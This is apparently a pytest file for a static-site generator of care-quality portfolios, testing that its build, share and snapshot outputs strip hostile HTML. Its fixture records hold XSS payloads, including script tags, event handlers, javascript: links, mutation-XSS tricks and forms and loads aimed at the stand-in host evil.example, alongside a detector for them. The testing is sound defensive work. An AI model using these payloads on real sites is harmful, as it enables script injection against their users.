"""Raw HTML and scripts in records, end to end: the real site, share and snapshot run nothing.

The example portfolio is given an evidence record, a meeting's minutes and a source whose text
carries every hostile form the issue lists (scripts, handlers, javascript:/data: links, <base>,
<meta refresh>, forms, iframes, objects, srcset, SVG images, posters, style url()s, and the
mutation tricks that fool weaker sanitisers). Every HTML page built by the real command is then
parsed with the standard library's parser, as is every entry of the search index.

Two copies are built: one as shipped (raw_html unset) and one with ``raw_html: true``, whose own
site keeps raw HTML but whose share and snapshot must not.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from posixpath import normpath

import pytest

from .conftest import clean_env, copy_example, epoch, start_portfolio

AS_OF = "2026-11-22"
PROFILE = "northshire-county-council"  # the example's profile: Brookfield House, from 2026-01-01
SNAPSHOT_MONTH = "2026-10"

EVIDENCE = """\
---
id: EV-901
title: Night staffing spot check, March 2026
service: brookfield-house
date: 2026-03-10
category: processes
kind: spot check
collected_by: Quality lead
quality_statements: [safe-and-effective-staffing]
---
The spot check found **all** night shifts covered; see [the action](../actions/act-005.md).

## Findings <img src="x.png" onerror="alert('pf-heading')">

<script>alert("pf-script")</script>

<iframe srcdoc="&lt;img src=x onerror=alert('pf-srcdoc')&gt;"></iframe>

A paragraph with a handler.
{: onclick="alert('pf-attr-list')" }

<a href="javascript:alert('pf-raw-link')">raw link</a>, [Markdown link](javascript:alert('pf-md-link')),
<a href="JaVaScRiPt&#58;alert('pf-entity-link')">entity link</a>, [data link](data:text/html,pf-data)
and ![data image](data:image/png;base64,iVBORw0KGgo=).

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=https://evil.example/pf-refresh">

<form action="https://evil.example/pf-form" method="post"><input name="q" value="x"><button formaction="https://evil.example/pf-button">Send</button></form>

<script>document.forms[0].submit()</script>

| Shift | Covered |
|:------|--------:|
| Night | 7 of 7  |
"""

MEETING = """\
---
id: MTG-900
title: Extraordinary governance meeting, March 2026
date: 2026-03-12
forum: Extraordinary governance meeting
chair: Nominated individual
attendees:
  - Registered manager
  - Quality lead
---
**1. Night staffing.** Agreed to keep the permanent night team.

<object data="https://evil.example/pf-object.swf"></object>
<embed src="https://evil.example/pf-embed.swf">

<img src="chart.png" srcset="https://evil.example/pf-srcset.png 2x" alt="srcset">

<svg><image href="https://evil.example/pf-svg-image.png"/><use href="https://evil.example/pf-use.svg#a"/></svg>

<video poster="https://evil.example/pf-poster.png" autoplay></video>

<p style="background:url(https://evil.example/pf-style.png)">Styled paragraph.</p>

<style>body { background: url(https://evil.example/pf-style-element.png) }</style>

<link rel="stylesheet" href="https://evil.example/pf-link.css">

![outside image](https://evil.example/pf-image.png) <img src="//evil.example/pf-protocol-relative.png" alt="x">

<details open ontoggle="alert('pf-toggle')"><summary>More</summary>Nothing more.</details>

### Next steps { onmouseover="alert('pf-heading-attr')" }

- Review in April
- Report to the board
"""

SOURCE = """\
---
id: SRC-901
title: "Night staffing concern <script>alert('pf-title')</script> raised by a relative"
kind: complaint
service: brookfield-house
date: 2026-03-05
quality_statements: [safe-and-effective-staffing]
---
A relative raised a concern about night staffing.

<svg></p><style><a id="</style><img src=1 onerror=alert('pf-mxss-svg')>">

<noscript><p title="</noscript><img src=x onerror=alert('pf-mxss-noscript')>"></noscript>

<svg><a href="javascript:alert('pf-svg-link')"><text x="0" y="10">svg link</text></a></svg>

<svg><rect width="9" height="9" fill="url(https://evil.example/pf-paint.svg#p)"/></svg>
"""

HOSTILE_PAGES = ("evidence/ev-901.html", "meetings/mtg-900.html", "sources/src-901.html")
REFERENCE_PAGE = "evidence/index.html"  # a page with no record text, at the same depth

#: The theme's own scripts: Material's bundle, ours, the share's iframe-worker shim and the
#: offline plugin's search index. Nothing else may be loaded by a script element.
THEME_SCRIPTS = re.compile(
    r"^(assets/javascripts/bundle\.[0-9a-f]+\.min\.js|assets/portfolio-table\.js"
    r"|assets/javascripts/iframe-worker/shim\.js|search/search_index\.js)$"
)
BANNED_TAGS = {
    "base", "iframe", "frame", "object", "embed", "applet", "video", "audio", "source", "picture", "image", "use",
    "foreignobject", "animate", "set", "link-in-body", "style-in-body", "noscript", "template",
}
#: The theme's header has its own search box, toggles and buttons; the content has none.
BANNED_IN_CONTENT = {"form", "input", "button", "select", "textarea", "label"}
LOADS = ("src", "srcset", "poster", "data", "background", "action", "formaction", "xlink:href")
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


@dataclass
class Element:
    tag: str
    attrs: dict[str, str]
    in_article: bool
    text: str = ""


class Page(HTMLParser):
    """One page, as the standard library's HTML parser reads it (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.in_body = False
        self.articles = 0  # inside Material's <article>: the page's own content
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "body":
            self.in_body = True
        if self.in_body and tag in ("style", "link"):
            tag = f"{tag}-in-body"  # the theme's own style sheets and links are in <head>
        if tag == "article":
            self.articles += 1
        self.in_script = tag == "script"
        self.elements.append(Element(tag, {name: value or "" for name, value in attrs}, self.articles > 0))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.in_script = False

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False
        if tag == "article" and self.articles:
            self.articles -= 1

    def handle_data(self, data: str) -> None:
        if self.in_script:
            self.elements[-1].text += data


def parse(markup: str) -> Page:
    page = Page()
    page.feed(markup)
    page.close()
    return page


def scripts(site: Path, rel: str, page: Page) -> list[str]:
    """Each script element of a page: the site-relative path it loads, or its inline text."""
    found = []
    for element in page.elements:
        if element.tag == "script":
            src = element.attrs.get("src")
            found.append(normpath(f"{Path(rel).parent.as_posix()}/{src}") if src else "inline: " + element.text)
    return found


def problems_in(site: Path, rel: str, page: Page) -> list[str]:
    """Whatever on a built page could run a script, submit a form or ask another host."""
    found = []
    for element in page.elements:
        tag, attrs = element.tag, element.attrs
        if tag in BANNED_TAGS or (element.in_article and tag in BANNED_IN_CONTENT):
            found.append(f"<{tag}>")
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        if tag == "form" and ("action" in attrs or element.in_article):
            found.append("<form> other than the theme's search box and colour switch")
        for name, value in attrs.items():
            bare = re.sub(r"[\x00-\x20]", "", value).lower()
            scheme = SCHEME.match(bare)
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            if scheme and scheme.group(1) in ("javascript", "data", "vbscript"):
                found.append(f"<{tag} {name}={value}>")
            if name in LOADS and tag != "script" and (scheme or bare.startswith(("//", "\\\\", "/\\"))):
                found.append(f"<{tag} {name}={value}> loads from another host")
            if "url(" in bare and ("//" in bare or "data:" in bare):
                found.append(f"<{tag} {name}={value}>")
            if "evil.example" in bare:
                found.append(f"<{tag} {name}={value}> names the hostile host")
        if tag == "script":
            src = attrs.get("src")
            if src and not THEME_SCRIPTS.match(normpath(f"{Path(rel).parent.as_posix()}/{src}")):
                found.append(f"<script src={src}>")
            if "alert(" in element.text or "evil.example" in element.text or "submit()" in element.text:
                found.append(f"<script>{element.text[:60]}</script>")
    return found


def html_pages(site: Path) -> dict[str, Page]:
    return {p.relative_to(site).as_posix(): parse(p.read_text(encoding="utf-8")) for p in sorted(site.rglob("*.html"))}


def search_entries(site: Path) -> list[dict[str, str]]:
    return json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]


# -- the builds ------------------------------------------------------------------------------------

def plant(project: Path) -> Path:
    for rel, text in (("evidence/ev-901.md", EVIDENCE), ("meetings/mtg-900.md", MEETING), ("sources/src-901.md", SOURCE)):
        (project / "content" / rel).write_text(text, encoding="utf-8")
    return project


@dataclass
class Built:
    cleaned_site: Path      # raw_html unset
    raw_site: Path          # raw_html: true
    raw_share: Path         # the share of the raw_html: true project
    raw_snapshot: Path      # a snapshot of it


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    root = tmp_path_factory.mktemp("hostile")
    cleaned = plant(copy_example(root / "cleaned"))
    raw = plant(copy_example(root / "raw"))
    config = raw / "site_config" / "portfolio.yml"
    config.write_text(config.read_text(encoding="utf-8") + "raw_html: true\n", encoding="utf-8")
    env = clean_env(SOURCE_DATE_EPOCH=epoch(f"{AS_OF}T12:00:00"))
    runs = [
        start_portfolio("build", "--as-of", AS_OF, cwd=cleaned, env=env),
        start_portfolio("build", "--as-of", AS_OF, cwd=raw, env=env),
        start_portfolio("share", PROFILE, "--as-of", AS_OF, cwd=raw, env=env),
        start_portfolio("snapshot", "--month", SNAPSHOT_MONTH, cwd=raw, env=env),
    ]
    for run in runs:
        out, err = run.communicate(timeout=600)
        assert run.returncode == 0, f"{run.args}\n{out}\n{err}"
    return Built(cleaned / "site", raw / "site", raw / "share" / PROFILE, raw / "archive" / SNAPSHOT_MONTH)


def outputs(built: Built) -> dict[str, Path]:
    return {"site": built.cleaned_site, "share": built.raw_share, "snapshot": built.raw_snapshot}


# -- the checks ------------------------------------------------------------------------------------

@pytest.mark.parametrize("output", ["site", "share", "snapshot"])
def test_hostile_records_are_published(built: Built, output: str):
    """The records reached every output, so the checks below read the hostile pages themselves."""
    site = outputs(built)[output]
    for rel in HOSTILE_PAGES:
        assert (site / rel).is_file(), rel
    text = (site / "evidence/ev-901.html").read_text(encoding="utf-8")
    assert "Night staffing spot check" in text and "A paragraph with a handler." in text


@pytest.mark.parametrize("output", ["site", "share", "snapshot"])
def test_no_page_runs_or_loads_anything_of_a_record(built: Built, output: str):
    site = outputs(built)[output]
    pages = html_pages(site)
    assert len(pages) > 100
    found = {rel: problems for rel, page in pages.items() if (problems := problems_in(site, rel, page))}
    assert found == {}


@pytest.mark.parametrize("output", ["site", "share", "snapshot"])
def test_hostile_pages_have_exactly_the_theme_scripts_of_any_other_page(built: Built, output: str):
    site = outputs(built)[output]
    reference = scripts(site, REFERENCE_PAGE, parse((site / REFERENCE_PAGE).read_text(encoding="utf-8")))
    assert any(s.startswith("assets/javascripts/bundle.") for s in reference)
    for rel in HOSTILE_PAGES:
        assert scripts(site, rel, parse((site / rel).read_text(encoding="utf-8"))) == reference, rel


@pytest.mark.parametrize("output", ["site", "share", "snapshot"])
def test_search_index_carries_no_markup_of_a_record(built: Built, output: str):
    site = outputs(built)[output]
    entries = [e for e in search_entries(site) if e["location"].split("#")[0] in HOSTILE_PAGES]
    assert entries, "the hostile pages are indexed"
    for entry in entries:
        for text in (entry["title"], entry["text"]):
            page = parse(text)
            assert problems_in(site, "index.html", page) == [], text
            assert not any(e.tag in ("script", "img", "svg", "a", "iframe", "form") for e in page.elements), text
            assert "evil.example" not in text


@pytest.mark.parametrize("output", ["site", "share", "snapshot"])
def test_what_users_legitimately_write_survives(built: Built, output: str):
    site = outputs(built)[output]
    evidence = parse((site / "evidence/ev-901.html").read_text(encoding="utf-8"))
    tags = [e.tag for e in evidence.elements]
    assert "table" in tags and "strong" in tags
    assert any(e.tag == "a" and e.attrs.get("href") == "../actions/act-005.html" for e in evidence.elements)
    assert any(e.tag == "th" and e.attrs.get("style") == "text-align:right" for e in evidence.elements)
    meeting = parse((site / "meetings/mtg-900.html").read_text(encoding="utf-8"))
    assert any(e.tag == "img" and e.attrs.get("src") == "chart.png" and "srcset" not in e.attrs for e in meeting.elements)
    assert [e.tag for e in meeting.elements].count("li") >= 2


def test_raw_html_true_keeps_raw_html_on_the_providers_own_site(built: Built):
    page = parse((built.raw_site / "evidence/ev-901.html").read_text(encoding="utf-8"))
    inline = [e.text for e in page.elements if e.tag == "script"]
    assert 'alert("pf-script")' in [text.strip() for text in inline]
    assert any(e.tag == "p" and "onclick" in e.attrs for e in page.elements)
    assert problems_in(built.raw_site, "evidence/ev-901.html", page) != []  # the checks above would see it


def test_pages_without_raw_html_are_the_same_with_and_without_raw_html(built: Built):
    """Cleaning changes only what it must: the other pages are byte for byte the same."""
    for rel in ("actions/act-005.html", "evidence/ev-001.html", "index.html", "statements/safe-and-effective-staffing.html"):
        cleaned = (built.cleaned_site / rel).read_text(encoding="utf-8")
        assert cleaned == (built.raw_site / rel).read_text(encoding="utf-8"), rel
